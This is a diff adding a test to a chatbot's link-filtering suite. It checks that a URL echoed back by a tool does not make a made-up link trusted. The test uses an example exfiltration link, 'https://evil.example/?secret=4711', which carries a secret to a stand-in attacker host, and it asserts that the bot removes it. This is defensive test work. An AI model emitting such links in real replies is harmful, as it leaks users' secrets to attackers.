@@ -9,7 +9,7 @@ from answers import answers
 from linqbot_agent import LinqAgent, Poll, Say
 from linqbot_agent.links import Shown, without_invented
 from linqbot_agent.requests import GO_ON
-from pydantic_ai import Agent, ModelResponse, ToolCallPart
+from pydantic_ai import Agent, ModelResponse, ToolCallPart, ToolReturn
 from pydantic_ai.exceptions import ToolFailed
 from pydantic_ai.messages import ModelMessage
 from pydantic_ai.models.function import AgentInfo, FunctionModel
@@ -55,6 +55,20 @@ async def test_what_a_tool_repeats_in_another_form_is_not_known() -> None:
     async with talking(bot_with(agent, LinqAgent(known_links=True))) as phone:
         (reply,) = await answers(phone, "Where is the menu?")
     assert reply == "Call [number removed] or [number removed], or see [address removed]."
+
+
+async def test_what_a_tool_adds_to_its_result_does_not_make_known_what_the_model_made_up() -> None:
+    evil = "https://evil.example/?secret=4711"
+    text = f"See https://shop.example/a or {evil}"
+    script = Script(calls(tool("look_up", "c1", url=evil)), says(text), says(text))
+    agent = Agent(script.model)
+
+    @agent.tool_plain
+    def look_up(url: str) -> ToolReturn[str]:
+        return ToolReturn("Nothing.", content=[f"There is nothing at {url}, but see https://shop.example/a"])
+
+    async with talking(bot_with(agent, LinqAgent(known_links=True))) as phone:
+        assert await answers(phone, "Where is the menu?") == ["See https://shop.example/a or [address removed]"]
 
 
 async def test_what_a_tool_returns_as_data_is_known_in_each_field() -> None:
